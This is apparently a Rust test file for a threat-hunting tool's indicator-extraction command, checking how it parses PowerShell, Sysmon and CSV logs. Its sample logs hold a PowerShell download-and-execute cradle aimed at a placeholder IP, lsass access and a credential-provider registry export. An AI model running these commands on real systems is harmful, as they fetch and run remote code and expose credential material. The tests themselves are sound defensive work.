//! `huntkit ioc` as a user runs it on real-looking logs: version numbers, raw JSON
//! events, and table output that carries the source cell only when asked.
// A failed expectation stops a test or benchmark: panicking here is the point.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::process::Output;

mod common;

fn huntkit(args: &[&str], stdin: &[u8]) -> Output {
    let o = common::run(args, stdin).0;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    o
}

/// The NDJSON output, one object per row.
fn rows(o: &Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn observables(o: &Output, ty: &str) -> Vec<String> {
    rows(o)
        .iter()
        .filter(|r| r["IoCType"] == ty)
        .map(|r| r["Observable"].as_str().unwrap().to_string())
        .collect()
}

const POWERSHELL_400: &str = "Engine state is changed from None to Available.\n\
    NewEngineState=Available PreviousEngineState=None SequenceNumber=13 HostName=ConsoleHost \
    HostVersion=1.0.0.0 HostId=6b4f4f0c EngineVersion=5.1.0.1 RunspaceId=1c2d \
    HostApplication=powershell.exe -nop -c iex(iwr http://203.0.113.80/a)\n\
    Package: Microsoft.SkypeApp_14.35.152.0_x64__kzf8qxf38zg5c FileVersion: 4.1.0.7\n";

#[test]
fn version_numbers_are_dropped_unless_kept() {
    let o = huntkit(
        &["ioc", "-", "--types", "ipv4", "--format", "json"],
        POWERSHELL_400.as_bytes(),
    );
    assert_eq!(observables(&o, "ipv4"), ["203.0.113.80"]);
    let o = huntkit(
        &[
            "ioc",
            "-",
            "--types",
            "ipv4",
            "--keep-version-ips",
            "--format",
            "json",
        ],
        POWERSHELL_400.as_bytes(),
    );
    let all = observables(&o, "ipv4");
    for v in [
        "1.0.0.0",
        "5.1.0.1",
        "203.0.113.80",
        "14.35.152.0",
        "4.1.0.7",
    ] {
        assert!(all.contains(&v.to_string()), "{v} {all:?}");
    }
}

/// Sysmon events exported as NDJSON: backslashes, line breaks and tabs escaped.
const SYSMON_NDJSON: &str = r#"{"EventID":10,"Message":"Process accessed:\r\nSourceImage: C:\\Windows\\system32\\svchost.exe\r\nTargetImage: C:\\Windows\\system32\\lsass.exe\r\nTargetProcessGUID: {4d5e6f70-0000-0000-0000-000000000000}"}
{"EventID":13,"TargetObject":"HKCR\r\nUser","Details":"reg export \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Authentication\\Credential Providers\" cp.reg","To":"soc@contoso.com;\tpgustavo@fabrikam.com"}
"#;

#[test]
fn a_json_log_is_read_with_its_escapes_decoded() {
    let o = huntkit(
        &["ioc", "-", "--include-paths", "--format", "json"],
        SYSMON_NDJSON.as_bytes(),
    );
    assert_eq!(
        observables(&o, "windows_path"),
        [
            r"C:\Windows\system32\svchost.exe",
            r"C:\Windows\system32\lsass.exe"
        ]
    );
    assert_eq!(
        observables(&o, "registry_key"),
        [r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Authentication\Credential Providers"]
    );
    assert_eq!(
        observables(&o, "email"),
        ["soc@contoso.com", "pgustavo@fabrikam.com"]
    );
    // Offsets are the input's: the raw text keeps the escapes.
    for r in rows(&o) {
        let (s, e) = (
            r["start"].as_u64().unwrap() as usize,
            r["end"].as_u64().unwrap() as usize,
        );
        assert_eq!(&SYSMON_NDJSON[s..e], r["raw"].as_str().unwrap());
    }

    let o = huntkit(
        &[
            "ioc",
            "-",
            "--include-paths",
            "--json-escapes",
            "never",
            "--format",
            "json",
        ],
        SYSMON_NDJSON.as_bytes(),
    );
    assert!(observables(&o, "registry_key").contains(&r"HKCR\r\nUser".to_string()));
    assert!(observables(&o, "email").contains(&"tpgustavo@fabrikam.com".to_string()));
}

#[test]
fn table_rows_carry_the_source_cell_only_when_asked() {
    let csv = "Computer,Message\nws01,\"Connection from 198.51.100.7 to C:/Windows/Temp/x.exe, see http://evil.example.com/a\"\nws02,nothing here\n";
    let args = ["ioc", "-", "--column", "Message", "--format", "json"];
    let lean = rows(&huntkit(&args, csv.as_bytes()));
    assert_eq!(lean.len(), 3);
    for r in &lean {
        assert!(r.get("Input").is_none(), "{r}");
        assert_eq!(r["SourceIndex"], 0);
        assert_eq!(r["Column"], "Message");
    }
    let full = rows(&huntkit(
        &[&args[..], &["--include-input"]].concat(),
        csv.as_bytes(),
    ));
    assert!(full
        .iter()
        .all(|r| r["Input"].as_str().unwrap().starts_with("Connection from")));
    // MSTICPy's extract_df always has Input: compat mode keeps it, unless told not to.
    let compat = rows(&huntkit(
        &[&args[..], &["--compat", "msticpy"]].concat(),
        csv.as_bytes(),
    ));
    assert!(compat.iter().all(|r| r["Input"].is_string()));
    let compat = rows(&huntkit(
        &[&args[..], &["--compat", "msticpy", "--include-input=false"]].concat(),
        csv.as_bytes(),
    ));
    assert!(compat.iter().all(|r| r.get("Input").is_none()));
    // A forward-slash Windows path is a Windows path.
    let paths = huntkit(&[&args[..], &["--include-paths"]].concat(), csv.as_bytes());
    assert_eq!(
        observables(&paths, "windows_path"),
        ["C:/Windows/Temp/x.exe"]
    );
    assert!(observables(&paths, "linux_path").is_empty());
}

#[test]
fn bad_option_values_are_usage_errors() {
    let (o, _) = common::run(&["ioc", "-", "--json-escapes", "sometimes"], b"x");
    assert_eq!(o.status.code(), Some(2));
    let (o, _) = common::run(
        &[
            "ioc",
            "-",
            "--compat",
            "msticpy",
            "--json-escapes",
            "always",
        ],
        b"x",
    );
    // The engine refuses the combination: an option mistake, so bad usage too.
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("invalid_option"));
}
